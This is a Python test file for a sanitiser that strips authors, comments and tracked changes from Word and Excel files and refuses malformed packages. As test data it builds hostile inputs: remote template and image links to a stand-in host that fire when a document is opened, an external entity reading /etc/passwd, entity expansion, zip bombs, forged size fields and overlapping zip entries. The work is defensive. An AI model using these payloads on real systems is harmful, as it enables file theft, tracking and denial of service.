"""Documents and sheets lose who wrote them and keep what they say; hostile ones are refused in bounded time."""

import re
import struct
import time
import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import docx
import openpyxl
import pytest
from openpyxl.comments import Comment

from bihuan.store import package_cleaning
from bihuan.store.file_kinds import kind_of
from bihuan.store.image_cleaning import Unreadable
from bihuan.store.package_cleaning import cleaned
from tests.a_file import DOCX_PARTS, TELLING, XLSX_PARTS, a_jpeg, a_package

SMALL = 4 * 1024 * 1024
"""So much XML is taken here at most."""
WHO, COMPANY = "张晓明", "淄川鲁味餐饮有限公司"
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
FOLDER = f"D:\\Users\\{WHO}\\Desktop\\合同.dotx"


def clean(content: bytes) -> bytes:
    return b"".join(cleaned(BytesIO(content)))


def inside(content: bytes) -> dict[str, bytes]:
    with ZipFile(BytesIO(content)) as package:
        assert package.testzip() is None
        return {name: package.read(name) for name in package.namelist()}


def a_word_file() -> bytes:
    """Written by Word's own rules, with an author, a company, a comment, a tracked change, a photo and a template."""
    written, found = docx.Document(), BytesIO()
    written.add_paragraph("许可已满一个月 & 仍在流转 <待办>")
    written.core_properties.author = written.core_properties.last_modified_by = WHO
    written.add_comment(written.paragraphs[0].runs, text="请核对", author=WHO, initials="ZXM")
    written.save(found)
    parts = inside(found.getvalue())
    change = f'<w:ins w:id="9" w:author="{WHO}" w:date="2026-09-29T08:00:00Z"><w:r><w:t>补充</w:t></w:r></w:ins>'
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"</w:p>", f"{change}</w:p>".encode(), 1)
    parts["word/people.xml"] = f'<w:people {WORD}><w:person w:author="{WHO}"/></w:people>'.encode()
    parts["word/media/photo.jpeg"] = a_jpeg()
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0" + TELLING
    parts["customXml/item1.xml"] = f"<owner>{WHO}</owner>".encode()
    parts["docProps/thumbnail.jpeg"] = a_jpeg()
    parts["word/_rels/settings.xml.rels"] = (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="rId1" Type="x/attachedTemplate" Target="{FOLDER}" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    return a_package(parts)


def a_sheet_file() -> bytes:
    """Written by a sheet program's own rules, with a comment that begins with its author's name."""
    book, found = openpyxl.Workbook(), BytesIO()
    book.properties.creator = book.properties.lastModifiedBy = WHO
    sheet = book.active
    assert sheet is not None
    sheet["A1"], sheet["A2"] = "=1+1", "金额\n（元）"
    sheet["A1"].comment = Comment(f"{WHO}:\n此处有误", WHO)
    book.save(found)
    parts = inside(found.getvalue())
    said = f'<fileSharing userName="{WHO}"/><x15ac:absPath xmlns:x15ac="x" url="{FOLDER}"/>'.encode()
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"<workbookPr", said + b"<workbookPr")
    parts["xl/printerSettings/printerSettings1.bin"] = TELLING
    return a_package(parts)


@pytest.mark.parametrize("written", [a_word_file, a_sheet_file])
def test_nothing_of_who_wrote_it_is_left(written: Callable[[], bytes]) -> None:
    content = written()
    assert kind_of(BytesIO(content), len(content)) is not None
    assert WHO.encode() in b"".join(inside(content).values())
    parts = inside(clean(content))
    left = [name for name, part in parts.items() if WHO.encode() in part or COMPANY.encode() in part or b"ZXM" in part]
    assert left == []
    assert set(parts) == set(inside(content)), "no part goes: others point to it"


def test_a_document_says_what_it_said() -> None:
    opened = docx.Document(BytesIO(clean(a_word_file())))
    assert opened.paragraphs[0].text.startswith("许可已满一个月 & 仍在流转 <待办>")
    (comment,) = opened.comments
    assert (comment.author, comment.text) == ("作者1", "请核对")
    change = re.search(r'<w:ins [^>]*w:author="([^"]*)"', inside(clean(a_word_file()))["word/document.xml"].decode())
    assert change is not None
    assert change[1] == "作者1", "the same person, told apart from others"


def test_a_sheet_says_what_it_said() -> None:
    sheet = openpyxl.load_workbook(BytesIO(clean(a_sheet_file()))).active
    assert sheet is not None
    assert (sheet["A1"].value, sheet["A2"].value) == ("=1+1", "金额\n（元）")
    assert sheet["A1"].comment.text == "作者1:\n此处有误"


BEACON = "https://evil.example/open?who=officer"


@pytest.mark.parametrize(
    "target", [BEACON, "//evil.example/a", "\\\\evil.example\\a", " ftp://evil.example/a", "a.dotx"]
)
@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "oleObject", "frame", "subDocument", "externalLinkPath"])
def test_nothing_is_fetched_by_whoever_opens_it(kind: str, target: str) -> None:
    """Who opens a document would ask its writer's machine for a picture, or for a template with macros."""
    relations = (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="rId1" Type="{RELATIONS}/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )
    part = inside(clean(_with(relations.encode(), "word/_rels/document.xml.rels")))["word/_rels/document.xml.rels"]
    assert b"evil" not in part
    assert b'Target="file:///"' in part


def test_links_and_the_documents_own_parts_stay_where_they_point() -> None:
    """Nothing of them is fetched before somebody follows a link."""
    links = {"hyperlink": BEACON, "image": "media/photo.jpeg", "styles": "/word/styles.xml"}
    relations = "".join(f'<Relationship Type="x/{kind}" Target="{target}"/>' for kind, target in links.items())
    whole = f'<Relationships xmlns="{RELATIONS}">{relations}</Relationships>'
    part = inside(clean(_with(whole.encode(), "word/_rels/document.xml.rels")))["word/_rels/document.xml.rels"]
    assert all(f'Target="{target}"'.encode() in part for target in links.values())


def test_cleaning_again_changes_nothing() -> None:
    once = clean(a_word_file())
    assert inside(clean(once)) == inside(once)


def _with(part: bytes, name: str = "word/document.xml") -> bytes:
    return a_package({**DOCX_PARTS, name: part})


def _bomb() -> bytes:
    """More spaces than anybody wants to read, in a few kilobytes."""
    found = BytesIO()
    with ZipFile(found, "w", ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", b"<w author='x'>" + b" " * (SMALL + 1) + b"</w>")
    return found.getvalue()


def _twice_the_same() -> bytes:
    found = BytesIO()
    with ZipFile(found, "w") as package:
        for name in ("word/document.xml", "WORD/document.xml"):
            package.writestr(name, b"<w/>")
    return found.getvalue()


def _lying_about_its_size() -> bytes:
    """A part that inflates to more than its list says is read as it is, not as it says."""
    whole = bytearray(_with(b"<w/>"))
    at = whole.index(b"PK\x01\x02")
    struct.pack_into("<L", whole, at + 20, 10**9)
    return bytes(whole)


ENTITIES = b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><w>&b;</w>'
OTHER_LETTERS = [
    b'<?xml version="1.0" encoding="' + name + b'"?><w author="x"/>' for name in (b"none", b"gbk", b"idna", b"rot13")
]
EXTERNAL = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'


@pytest.mark.parametrize(
    "content",
    [
        _with(b"<w author='x'><unclosed></w>"), _with(b""), _with(b"\xff\xfe<"), _with(ENTITIES), _with(EXTERNAL),
        _with(b'<w author="' + b"x" * (2 << 20) + b'"/>'), _bomb(), _twice_the_same(), _lying_about_its_size(),
        *map(_with, OTHER_LETTERS), _with(b"<w/>")[:-30], _with(b"<w author='x'/>").replace(b"'x'/>", b"'x'/ "),
    ],
    ids=range(15),
)  # fmt: skip
def test_what_cannot_be_followed_is_refused_in_a_moment(content: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(package_cleaning, "MOST_XML", SMALL)
    begun = time.perf_counter()
    with pytest.raises(Unreadable):
        clean(content)
    assert kind_of(BytesIO(content), len(content)) is None
    assert time.perf_counter() - begun < 10


def test_a_part_that_is_no_picture_does_not_pass_as_one() -> None:
    parts = inside(clean(a_package({**XLSX_PARTS, "xl/media/image1.png": b"%PDF-1.4" + TELLING})))
    assert parts["xl/media/image1.png"] == b""


def test_a_broken_deflate_stream_is_refused() -> None:
    packed = zlib.compress(b"<w/>" * 100)
    whole = a_package(DOCX_PARTS | {"word/x.xml": packed})
    with pytest.raises(Unreadable):
        clean(whole)


def _naming_one_part_often(times: int, ending: str) -> bytes:
    """A list of so many parts, all of which lie in the same place."""
    whole = BytesIO()
    with ZipFile(whole, "w", ZIP_DEFLATED) as package:
        for name, part in DOCX_PARTS.items():
            package.writestr(name, part)
        package.writestr(f"word/0{ending}", b"<a>" + b" " * 1_000_000 + b"</a>")
        same = package.getinfo(f"word/0{ending}")
    end = whole.getvalue().rfind(b"PK\x05\x06")
    before, length, start = whole.getvalue()[:end], *struct.unpack("<2L", whole.getvalue()[end + 12 : end + 20])
    sizes = (same.CRC, same.compress_size, same.file_size)
    names = [f"word/{number}{ending}".encode() for number in range(1, times)]
    head = struct.Struct("<4s6H3L5H2L")
    listed = b"".join(
        head.pack(b"PK\x01\x02", 20, 20, 0, 8, 0, 33, *sizes, len(name), 0, 0, 0, 0, 0, same.header_offset) + name
        for name in names
    )
    count = len(DOCX_PARTS) + times
    return before + listed + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, length + len(listed), start, 0)


@pytest.mark.parametrize(
    "content",
    [
        _naming_one_part_often(60, ".xml"), _naming_one_part_often(60, ".gif"), _naming_one_part_often(60, ".png"),
        _with(b"<author>" * 300 + b"</author>" * 300), _with(b"<author>" + b"<a/>" * 3_000 + b"</author>"),
    ],
    ids=["xml", "gif", "png", "deep", "many"],
)  # fmt: skip
def test_no_package_of_a_few_kilobytes_keeps_a_process_for_an_hour(
    content: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever it is that there are many of: parts in one place, elements, elements within elements."""
    assert len(content) < 20_000
    monkeypatch.setattr(package_cleaning, "MOST_INSIDE", 50_000_000)
    monkeypatch.setattr(package_cleaning, "MOST_MARKS", 2_000)
    begun = time.perf_counter()
    assert kind_of(BytesIO(content), len(content)) is None
    assert time.perf_counter() - begun < 20
